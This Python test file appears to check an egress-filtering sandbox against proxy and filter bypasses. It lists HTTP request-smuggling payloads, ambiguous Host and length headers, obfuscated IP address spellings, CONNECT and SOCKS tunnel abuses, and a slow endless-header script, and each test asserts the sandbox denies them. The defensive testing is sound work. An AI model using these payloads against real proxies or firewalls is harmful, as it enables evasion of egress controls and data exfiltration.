"""HTTP requests, CONNECT and SOCKS authorities in every spelling: what could be read in two ways, or around a rule.

Rules that allow are hard to get around by a spelling: what is spelled oddly is not what they allow. So most policies here
allow everything but one name or one address.
"""

from __future__ import annotations

import pytest

from lab import plan
from lab.internet import Internet
from lab.sandgate import Sandgate, after_resolving, allowing, attack

HEAD = rf"Host: {plan.SINK}\r\n"
CHUNKED = rf"POST /smuggled HTTP/1.1\r\n{HEAD}Transfer-Encoding: chunked\r\n"

AMBIGUOUS = {
    "host with a path": rf"GET /smuggled HTTP/1.1\r\nHost: {plan.SINK}/x\r\n\r\n",
    "host with a query": rf"GET /smuggled HTTP/1.1\r\nHost: {plan.SINK}?x\r\n\r\n",
    "host with a space": rf"GET /smuggled HTTP/1.1\r\nHost: {plan.SINK} {plan.OTHER}\r\n\r\n",
    "host with a tab": rf"GET /smuggled HTTP/1.1\r\nHost: {plan.SINK}\t{plan.OTHER}\r\n\r\n",
    "host with a comma": rf"GET /smuggled HTTP/1.1\r\nHost: {plan.SINK}, {plan.OTHER}\r\n\r\n",
    "host with a nul": rf"GET /smuggled HTTP/1.1\r\nHost: {plan.SINK}\x00.{plan.OTHER}\r\n\r\n",
    "host with a high byte": rf"GET /smuggled HTTP/1.1\r\nHost: {plan.SINK}\xad\r\n\r\n",
    "host with two ports": rf"GET /smuggled HTTP/1.1\r\nHost: {plan.SINK}:80:81\r\n\r\n",
    "host with a port too large": rf"GET /smuggled HTTP/1.1\r\nHost: {plan.SINK}:65616\r\n\r\n",
    "host with a port in words": rf"GET /smuggled HTTP/1.1\r\nHost: {plan.SINK}:http\r\n\r\n",
    "host with userinfo": rf"GET /smuggled HTTP/1.1\r\nHost: {plan.OTHER}:80@{plan.SINK}\r\n\r\n",
    "host with a backslash": rf"GET /smuggled HTTP/1.1\r\nHost: {plan.SINK}\\@{plan.OTHER}\r\n\r\n",
    "host with percents": r"GET /smuggled HTTP/1.1\r\nHost: sink%2eexample\r\n\r\n",
    "host with an empty label": r"GET /smuggled HTTP/1.1\r\nHost: sink..example\r\n\r\n",
    "host with two trailing dots": rf"GET /smuggled HTTP/1.1\r\nHost: {plan.SINK}..\r\n\r\n",
    "empty host": r"GET /smuggled HTTP/1.1\r\nHost:\r\n\r\n",
    "hosts in two cases": rf"GET /smuggled HTTP/1.1\r\n{HEAD}hOST: {plan.OTHER}\r\n\r\n",
    "the same host twice": rf"GET /smuggled HTTP/1.1\r\n{HEAD}{HEAD}\r\n",
    "folded host": rf"GET /smuggled HTTP/1.1\r\nHost: {plan.SINK}\r\n {plan.OTHER}\r\n\r\n",
    "host in the first line's fold": rf"GET /smuggled HTTP/1.1\r\n Host: {plan.OTHER}\r\n{HEAD}\r\n",
    "host behind a bare carriage return": rf"GET /smuggled HTTP/1.1\r\nX: a\rHost: {plan.OTHER}\r\n{HEAD}\r\n",
    "host behind a bare line feed": rf"GET /smuggled HTTP/1.1\r\nX: a\nHost: {plan.OTHER}\r\n{HEAD}\r\n",
    "host behind a nul": rf"GET /smuggled HTTP/1.1\r\nX: a\x00Host: {plan.OTHER}\r\n{HEAD}\r\n",
    "no colon": rf"GET /smuggled HTTP/1.1\r\n{HEAD}X\r\n\r\n",
    "empty header name": rf"GET /smuggled HTTP/1.1\r\n{HEAD}: x\r\n\r\n",
    "space in a header name": rf"GET /smuggled HTTP/1.1\r\n{HEAD}X Y: x\r\n\r\n",
    "high byte in a header name": rf"GET /smuggled HTTP/1.1\r\n{HEAD}X\xffY: x\r\n\r\n",
    "absolute form with userinfo": rf"GET http://{plan.OTHER}@{plan.SINK}/smuggled HTTP/1.1\r\n{HEAD}\r\n",
    "absolute form of another scheme": rf"GET https://{plan.SINK}/smuggled HTTP/1.1\r\n{HEAD}\r\n",
    "absolute form with another port": rf"GET http://{plan.SINK}:8443/smuggled HTTP/1.1\r\n{HEAD}\r\n",
    "absolute form without a host": rf"GET http:///smuggled HTTP/1.1\r\n{HEAD}\r\n",
    "authority form": rf"GET {plan.OTHER}:80 HTTP/1.1\r\n{HEAD}X: /smuggled\r\n\r\n",
    "target with a space": rf"GET /a b/smuggled HTTP/1.1\r\n{HEAD}\r\n",
    "target with a tab": rf"GET\t/smuggled\tHTTP/1.1\r\n{HEAD}\r\n",
    "target with a nul": rf"GET /\x00/smuggled HTTP/1.1\r\n{HEAD}\r\n",
    "no version": rf"GET /smuggled\r\n{HEAD}\r\n",
    "version 0.9": rf"GET /smuggled HTTP/0.9\r\n{HEAD}\r\n",
    "version 1.2": rf"GET /smuggled HTTP/1.2\r\n{HEAD}\r\n",
    "version 2.0": rf"GET /smuggled HTTP/2.0\r\n{HEAD}\r\n",
    "version with a sign": rf"GET /smuggled HTTP/+1.1\r\n{HEAD}\r\n",
    "two lengths that are the same": rf"POST /smuggled HTTP/1.1\r\n{HEAD}Content-Length: 1, 2\r\n\r\nab",
    "negative length": rf"POST /smuggled HTTP/1.1\r\n{HEAD}Content-Length: -1\r\n\r\n",
    "hexadecimal length": rf"POST /smuggled HTTP/1.1\r\n{HEAD}Content-Length: 0x1\r\n\r\na",
    "huge length": rf"POST /smuggled HTTP/1.1\r\n{HEAD}Content-Length: 18446744073709551617\r\n\r\na",
    "empty length": rf"POST /smuggled HTTP/1.1\r\n{HEAD}Content-Length:\r\n\r\n",
    "length with a space within": rf"POST /smuggled HTTP/1.1\r\n{HEAD}Content-Length: 1 1\r\n\r\na",
    "chunked in another word": rf"POST /smuggled HTTP/1.1\r\n{HEAD}Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    "chunked in quotes": rf'POST /smuggled HTTP/1.1\r\n{HEAD}Transfer-Encoding: "chunked"\r\n\r\n0\r\n\r\n',
    "chunked and then identity": rf"POST /smuggled HTTP/1.1\r\n{HEAD}Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
    "chunked in two headers": rf"{CHUNKED}Transfer-Encoding: identity\r\n\r\n0\r\n\r\n",
    "chunked with a vertical tab": rf"POST /smuggled HTTP/1.1\r\n{HEAD}Transfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n",
    "chunked in version 1.0": rf"POST /smuggled HTTP/1.0\r\n{HEAD}Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "gzip": rf"POST /smuggled HTTP/1.1\r\n{HEAD}Transfer-Encoding: gzip\r\n\r\n",
}


@pytest.mark.attack(
    "P5 N8",
    "sends a request whose host, target, version or length can be read in two ways, in fifty forms",
    stopped_by="http-host",
)
@pytest.mark.parametrize("name", AMBIGUOUS)
def test_request_with_two_readings(internet: Internet, sandgate: Sandgate, name: str) -> None:
    command = attack("pieces", plan.SINK4, 80, AMBIGUOUS[name])
    internet.unenforced(command)
    assert "smuggled" in internet.sinks.data()

    run = sandgate.run(allowing(plan.SINK), *after_resolving(plan.SINK, then=command))
    assert internet.sinks.arrivals() == [], run
    assert run.audit.where(verdict="deny", ip=plan.SINK4, port=80), run


SMUGGLED = rf"GET /second HTTP/1.1\r\nHost: {plan.OTHER}\r\n\r\n"

NEXT = "\n"
"""Parts what is sent from what is sent after an answer to it."""

SECOND = {
    "behind a length that is too short": rf"POST /first HTTP/1.1\r\nHost: {plan.ALLOWED}\r\nContent-Length: 0\r\n\r\n{SMUGGLED}",
    "behind chunks": rf"POST /first HTTP/1.1\r\nHost: {plan.ALLOWED}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{SMUGGLED}",
    "behind a chunk of odd size": rf"POST /first HTTP/1.1\r\nHost: {plan.ALLOWED}\r\nTransfer-Encoding: chunked\r\n\r\n"
    rf"1;a=\r\nx\r\n00\r\n\r\n{SMUGGLED}",
    "behind trailers": rf"POST /first HTTP/1.1\r\nHost: {plan.ALLOWED}\r\nTransfer-Encoding: chunked\r\n\r\n"
    rf"0\r\nHost: {plan.OTHER}\r\n\r\n{SMUGGLED}",
    "behind an upgrade to websockets": rf"GET /first HTTP/1.1\r\nHost: {plan.ALLOWED}\r\nConnection: Upgrade\r\n"
    rf"Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n{SMUGGLED}",
    "behind an upgrade to h2c": rf"GET /first HTTP/1.1\r\nHost: {plan.ALLOWED}\r\nConnection: Upgrade, HTTP2-Settings\r\n"
    rf"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n{SMUGGLED}",
    "behind an upgrade to tls": rf"GET /first HTTP/1.1\r\nHost: {plan.ALLOWED}\r\nConnection: Upgrade\r\n"
    rf"Upgrade: TLS/1.2\r\n\r\n{SMUGGLED}",
    "behind an expectation": rf"POST /first HTTP/1.1\r\nHost: {plan.ALLOWED}\r\nExpect: 100-continue\r\n"
    rf"Content-Length: 2\r\n\r\nab{SMUGGLED}",
    "behind a head": rf"HEAD /first HTTP/1.1\r\nHost: {plan.ALLOWED}\r\n\r\n{SMUGGLED}",
    "behind empty lines": rf"GET /first HTTP/1.1\r\nHost: {plan.ALLOWED}\r\n\r\n\r\n\r\n{SMUGGLED}",
    "after ten others": rf"GET /first HTTP/1.1\r\nHost: {plan.ALLOWED}\r\n\r\n{NEXT}" * 10 + SMUGGLED,
    "behind a length of a GET": rf"GET /first HTTP/1.1\r\nHost: {plan.ALLOWED}\r\nContent-Length: 0\r\n\r\n{SMUGGLED}",
}


@pytest.mark.attack(
    "P5 N3",
    "hides a request for a denied host behind an allowed one: behind bodies, chunks, trailers, upgrades, expectations",
    stopped_by="http-host",
)
@pytest.mark.parametrize("name", SECOND)
def test_second_request(internet: Internet, sandgate: Sandgate, name: str) -> None:
    pieces = SECOND[name].split(NEXT)
    command = after_resolving(plan.ALLOWED, then=attack("pieces", plan.SHARED4, 80, "--together", *pieces))
    internet.unenforced(command)
    paths = {request.path for request in internet.web.requests()}
    assert "/second" in paths, paths

    with internet.capture(f"dst host {plan.SHARED4}") as outside:
        run = sandgate.run(allowing(plan.ALLOWED), *command)
    assert "/second" not in {request.path for request in internet.web.requests()}, run
    assert plan.OTHER.encode() not in outside.payload and b"/second" not in outside.payload, run


# Around a rule that denies

OPEN_BUT_NAME = {"defaultAction": "allow", "egress": [{"action": "deny", "target": plan.OTHER}]}
OPEN_BUT_NAMES = {"defaultAction": "allow", "egress": [{"action": "deny", "target": "*.example"}]}
OPEN_BUT_ADDRESS = {"defaultAction": "allow", "egress": [{"action": "deny", "target": plan.SINK4}]}

SPELLINGS = [
    plan.OTHER.upper(),
    "oThEr.eXaMpLe",
    f"{plan.OTHER}.",
    f"{plan.OTHER}:80",
    f"{plan.OTHER}.:80",
    f"{plan.OTHER}:",
    f"{plan.OTHER}:0080",
]


@pytest.mark.attack(
    "N7 N8", "asks for a denied host in another spelling, where all else is allowed", stopped_by="http-host"
)
@pytest.mark.parametrize("host", SPELLINGS)
def test_spelling_of_a_host(internet: Internet, sandgate: Sandgate, host: str) -> None:
    command = attack("pieces", plan.SHARED4, 80, rf"GET /spelled HTTP/1.1\r\nHost: {host}\r\n\r\n")
    internet.unenforced(command)
    assert [request.path for request in internet.web.requests()] == ["/spelled"]
    run = sandgate.run(OPEN_BUT_NAME, *command)
    assert internet.web.requests() == [], run
    assert run.audit.where(verdict="deny", ip=plan.SHARED4), run


@pytest.mark.attack(
    "N7 P1", "says a denied server name in another spelling, where all else is allowed", stopped_by="tls-sni"
)
@pytest.mark.parametrize("name", ["SINK.EXAMPLE", "sInK.example", "sink.example.", "SINK.example."])
def test_spelling_of_a_server_name(internet: Internet, sandgate: Sandgate, name: str) -> None:
    command = attack("hellos", plan.SINK4, 443, "other name", "unused.example", name)
    internet.unenforced(command)
    assert internet.sinks.data()
    for policy in (OPEN_BUT_NAMES, {"defaultAction": "allow", "egress": [{"action": "deny", "target": plan.SINK}]}):
        run = sandgate.run(policy, *command)
        assert internet.sinks.arrivals() == [], run
        assert run.audit.where(verdict="deny", ip=plan.SINK4), run


@pytest.mark.attack(
    "N7 D1", "asks the nameserver for a denied name in another spelling, where all else is allowed", stopped_by="dns"
)
@pytest.mark.parametrize(
    "name", ["OTHER.EXAMPLE", "oThEr.example", r"other\.example", r"\111ther.example", r"oth\101r.example"]
)
def test_spelling_of_a_query(internet: Internet, sandgate: Sandgate, name: str) -> None:
    command = attack("query", plan.DNS4, name)
    with internet.capture("port 53", unenforced=True) as outside:
        internet.unenforced(command)
    assert outside.lines
    internet.forget()
    run = sandgate.run(OPEN_BUT_NAMES, *command)
    assert internet.dns.queries() == [] and plan.SHARED4 not in run.stdout, run


ADDRESSES = {
    "decimal": "3325256770",
    "octal": "0306.063.0144.0102",
    "hexadecimal": "0xc6.0x33.0x64.0x42",
    "one hexadecimal number": "0xc6336442",
    "three parts": "198.51.25666",
    "two parts": "198.3367010",
    "leading zero": "198.051.100.66",
    "trailing dot": "198.51.100.66.",
    "mapped": "[::ffff:198.51.100.66]",
    "mapped in hexadecimal": "[::ffff:c633:6442]",
    "mapped at length": "[0:0:0:0:0:ffff:198.51.100.66]",
    "compatible": "[::198.51.100.66]",
    "nat64": "[64:ff9b::198.51.100.66]",
    "6to4": "[2002:c633:6442::1]",
    "zone": "[::ffff:198.51.100.66%lo]",
    "percent zone": "[fe80::1%25lo]",
    "percent": "%31%39%38.51.100.66",
    "full-width digits": "１９８.51.100.66",
    "userinfo": "x@198.51.100.66",
    "brackets": "[198.51.100.66]",
    "no brackets": "::ffff:198.51.100.66",
}


@pytest.mark.attack(
    "N8 P6",
    "asks the proxy for a tunnel to a denied address in another spelling, where all else is allowed",
    stopped_by="connect",
)
@pytest.mark.parametrize("name", ADDRESSES)
def test_spelling_of_an_authority(internet: Internet, sandgate: Sandgate, name: str) -> None:
    authority = f"{ADDRESSES[name]}:4444"
    command = attack("tunnel", authority, "through the tunnel")
    if name in ("decimal", "octal", "hexadecimal", "three parts", "mapped", "mapped in hexadecimal"):
        internet.unenforced(command, {"HTTPS_PROXY": plan.OPEN_PROXY})
        assert "through the tunnel" in internet.sinks.data()

    run = sandgate.run(OPEN_BUT_ADDRESS, *command, options=["--proxy-env"])
    assert "proxy: HTTP/1.1 200" not in run.stdout, run
    assert internet.sinks.arrivals() == [], run
    assert run.audit.where(verdict="deny"), run


@pytest.mark.attack("N8 P6", "asks for a denied address in another spelling over SOCKS", stopped_by="connect")
@pytest.mark.parametrize("name", [name for name in ADDRESSES if name != "full-width digits"])
def test_spelling_over_socks(internet: Internet, sandgate: Sandgate, name: str) -> None:
    host = ADDRESSES[name].strip("[]") if name not in ("brackets",) else ADDRESSES[name]
    command = attack("socks", host, 4444, "--text", "over socks")
    if name in ("decimal", "octal", "hexadecimal", "three parts", "mapped"):
        internet.unenforced(command, {"ALL_PROXY": plan.OPEN_SOCKS})
        assert "over socks" in internet.sinks.data()

    run = sandgate.run(OPEN_BUT_ADDRESS, *command, options=["--socks-env"])
    assert "reply: 0" not in run.stdout, run
    assert internet.sinks.arrivals() == [], run


@pytest.mark.attack(
    "N8", "asks for a denied address in another spelling as the host of a request", stopped_by="http-host"
)
@pytest.mark.parametrize("name", [name for name in ADDRESSES if name != "full-width digits"])
def test_spelling_as_a_host(internet: Internet, sandgate: Sandgate, name: str) -> None:
    """In absolute form to the proxy, which dials what the host says."""
    request = rf"GET http://{ADDRESSES[name]}:4444/spelled HTTP/1.1\r\nHost: {ADDRESSES[name]}:4444\r\n\r\n"
    host, _, port = plan.EXPLICIT_PROXY.rpartition(":")
    run = sandgate.run(OPEN_BUT_ADDRESS, *attack("pieces", host, port, request))
    assert "spelled" not in internet.sinks.data(), run
    assert run.audit.where(verdict="deny"), run


# CONNECT

SECRET = "GET /smuggled HTTP/1.1"
TUNNELS = {
    "body": rf"CONNECT {plan.SINK}:4444 HTTP/1.1\r\nHost: {plan.SINK}:4444\r\nContent-Length: 8\r\n\r\nsmuggled",
    "chunked body": rf"CONNECT {plan.SINK}:4444 HTTP/1.1\r\nHost: {plan.SINK}:4444\r\nTransfer-Encoding: chunked\r\n\r\n"
    r"8\r\nsmuggled\r\n0\r\n\r\n",
    "another host": rf"CONNECT {plan.SINK}:4444 HTTP/1.1\r\nHost: {plan.OTHER}:4444\r\n\r\nsmuggled",
    "another host's authority": rf"CONNECT {plan.OTHER}:4444 HTTP/1.1\r\nHost: {plan.SINK}:4444\r\n\r\nsmuggled",
    "two hosts": rf"CONNECT {plan.SINK}:4444 HTTP/1.1\r\nHost: {plan.SINK}:4444\r\nHost: {plan.OTHER}\r\n\r\nsmuggled",
    "no port": rf"CONNECT {plan.SINK} HTTP/1.1\r\nHost: {plan.SINK}\r\n\r\nsmuggled",
    "port 0": rf"CONNECT {plan.SINK}:0 HTTP/1.1\r\nHost: {plan.SINK}:0\r\n\r\nsmuggled",
    "port 69980": rf"CONNECT {plan.SINK}:69980 HTTP/1.1\r\nHost: {plan.SINK}:69980\r\n\r\nsmuggled",
    "signed port": rf"CONNECT {plan.SINK}:+4444 HTTP/1.1\r\nHost: {plan.SINK}:+4444\r\n\r\nsmuggled",
    "two ports": rf"CONNECT {plan.SINK}:443:4444 HTTP/1.1\r\nHost: {plan.SINK}\r\n\r\nsmuggled",
    "userinfo": rf"CONNECT {plan.OTHER}@{plan.SINK}:4444 HTTP/1.1\r\nHost: {plan.SINK}\r\n\r\nsmuggled",
    "absolute form": rf"CONNECT http://{plan.SINK}:4444/ HTTP/1.1\r\nHost: {plan.SINK}\r\n\r\nsmuggled",
    "path": rf"CONNECT {plan.SINK}:4444/x HTTP/1.1\r\nHost: {plan.SINK}\r\n\r\nsmuggled",
    "lower case": rf"connect {plan.SINK}:4444 HTTP/1.1\r\nHost: {plan.SINK}:4444\r\n\r\nsmuggled",
    "bare line feeds": rf"CONNECT {plan.SINK}:4444 HTTP/1.1\nHost: {plan.SINK}:4444\n\nsmuggled",
    "nul": rf"CONNECT {plan.SINK}\x00.{plan.OTHER}:4444 HTTP/1.1\r\nHost: {plan.SINK}\r\n\r\nsmuggled",
    "version 2": rf"CONNECT {plan.SINK}:4444 HTTP/2.0\r\nHost: {plan.SINK}:4444\r\n\r\nsmuggled",
    "denied request at once": rf"CONNECT {plan.SINK}:4444 HTTP/1.1\r\nHost: {plan.SINK}:4444\r\n\r\n"
    rf"GET /smuggled HTTP/1.1\r\nHost: {plan.OTHER}\r\n\r\n",
    "two in a row": rf"CONNECT {plan.SINK}:80 HTTP/1.1\r\nHost: {plan.SINK}:80\r\n\r\n"
    rf"CONNECT {plan.OTHER}:4444 HTTP/1.1\r\nHost: {plan.OTHER}:4444\r\n\r\nsmuggled",
    "absolute form inside": rf"CONNECT {plan.SINK}:80 HTTP/1.1\r\nHost: {plan.SINK}:80\r\n\r\n"
    rf"GET http://{plan.OTHER}/smuggled HTTP/1.1\r\nHost: {plan.SINK}\r\n\r\n",
    "options of all": r"OPTIONS * HTTP/1.1\r\nHost: smuggled.example\r\n\r\n",
    "trace": rf"TRACE http://{plan.OTHER}/smuggled HTTP/1.1\r\nHost: {plan.OTHER}\r\n\r\n",
    "another protocol": rf"GET ftp://{plan.SINK}/smuggled HTTP/1.1\r\nHost: {plan.SINK}\r\n\r\n",
    "origin form": rf"GET /smuggled HTTP/1.1\r\nHost: {plan.OTHER}\r\n\r\n",
    "reverse host": rf"GET http://{plan.SINK}/smuggled HTTP/1.1\r\nHost: {plan.OTHER}\r\n\r\n",
}


@pytest.mark.attack(
    "P6 P5",
    "asks the proxy with a body, another host, odd ports, odd forms, or with a denied request in the tunnel's first segment",
    stopped_by="connect, http-host",
)
@pytest.mark.parametrize("name", TUNNELS)
def test_request_to_the_proxy(internet: Internet, sandgate: Sandgate, name: str) -> None:
    host, _, port = plan.EXPLICIT_PROXY.rpartition(":")
    run = sandgate.run(allowing(plan.SINK), *attack("pieces", host, port, "--together", TUNNELS[name]))
    assert "smuggled" not in internet.sinks.data(), run
    assert internet.web.requests() == [] and "smuggled.example" not in internet.dns.names(), run


@pytest.mark.attack(
    "P6", "has the proxy dial itself, its own listeners and what listens in the sandbox", stopped_by="connect"
)
@pytest.mark.parametrize(
    "authority", ["127.0.0.1:64128", "[::1]:64128", "127.0.0.1:64053", "localhost:64128", "0.0.0.0:64128"]
)
def test_proxy_that_dials_itself(internet: Internet, sandgate: Sandgate, authority: str) -> None:
    run = sandgate.run({"defaultAction": "allow"}, *attack("tunnel", authority, "again"), options=["--proxy-env"])
    assert "proxy: HTTP/1.1 200" not in run.stdout and run.audit.where(verdict="deny"), run


# Bounds


@pytest.mark.attack(
    "P7", "sends a head that never ends: a long line, many lines, or a byte at a time", stopped_by="limits"
)
@pytest.mark.parametrize("kind", ["line", "lines", "slow"])
def test_head_without_end(internet: Internet, sandgate: Sandgate, kind: str) -> None:
    script = f"""
import socket, sys, time
client = socket.create_connection(('{plan.SINK4}', 80), 5)
begun = time.monotonic()
try:
    client.sendall(b"GET /endless HTTP/1.1\\r\\nHost: {plan.SINK}\\r\\n")
    if '{kind}' == 'line': client.sendall(b"X: " + b"a" * 4_000_000)
    elif '{kind}' == 'lines': client.sendall(b"X: a\\r\\n" * 500_000)
    else:
        while time.monotonic() - begun < 60:
            client.sendall(b"X: a\\r\\n")
            time.sleep(0.25)
    client.settimeout(5)
    print("answer", client.recv(1000)[:12])
except OSError as error:
    print("ended", error)
print("within a minute" if time.monotonic() - begun < 55 else "too late")
"""
    command = ["/usr/bin/python3", "-c", script]
    if kind != "slow":
        internet.unenforced(command)
        assert "/endless" in internet.sinks.data()
    # In place of ten seconds.
    deadline = ["--limit", "firstBytesMilliseconds=3000"]
    run = sandgate.run(allowing(plan.SINK), *after_resolving(plan.SINK, then=command), options=deadline, timeout=90)
    assert "within a minute" in run.stdout, run
    assert internet.sinks.arrivals() == [], run
